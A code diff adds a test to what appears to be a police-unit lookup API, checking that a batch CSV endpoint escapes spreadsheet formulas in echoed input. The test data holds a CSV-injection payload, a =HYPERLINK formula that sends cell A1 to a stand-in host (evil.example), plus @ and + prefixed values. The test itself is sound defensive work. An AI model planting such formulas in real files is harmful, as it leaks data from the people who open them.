@@ -286,3 +286,27 @@ def test_one_unit_with_its_chain(client: Any, auth: Any) -> None:
     assert f["properties"]["chain"]["polres"]["code"] == "51.01"
     r = client.get("/api/v1/units/99.99", headers=auth())
     assert r.status_code == 404 and r.get_json()["code"] == "UNIT_NOT_FOUND"
+
+
+def test_batch_csv_writes_back_no_spreadsheet_formula(client: Any, auth: Any) -> None:
+    """A caller's text echoed into the answer CSV cannot run as a formula when a supervisor opens it in a
+    spreadsheet; plain (negative) numbers stay numbers."""
+    data = ('id,lat,lon,note\n=HYPERLINK("http://evil.example/?"&A1;"klik"),-8.3582,114.6225,@SUM(1+1)\n'
+            '2,-8.7012,115.2712,+62 812 3456\n3,-8.36,114.62,-8.35\n')
+    r = client.post(URL + "/batch", data=data, headers={**auth(), "Content-Type": "text/csv"})
+    assert r.status_code == 200, r.get_data(as_text=True)
+    rows = _csv_rows(r.get_data(as_text=True))
+    assert rows[0]["id"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'@SUM(1+1)"
+    assert rows[1]["note"] == "'+62 812 3456" and rows[2]["note"] == "-8.35"
+    assert [x["input_lat"] for x in rows] == ["-8.3582", "-8.7012", "-8.36"]  # numbers kept as they were
+    assert [x["polsek_code"] for x in rows] == ["51.01.01", "51.71.01", "51.01.01"]  # answers unchanged
+    for cell in (c for row in rows for c in row.values()):
+        assert not (cell[:1] in "=+@" and cell[:1]) and not (cell.startswith("-") and not _is_number(cell))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
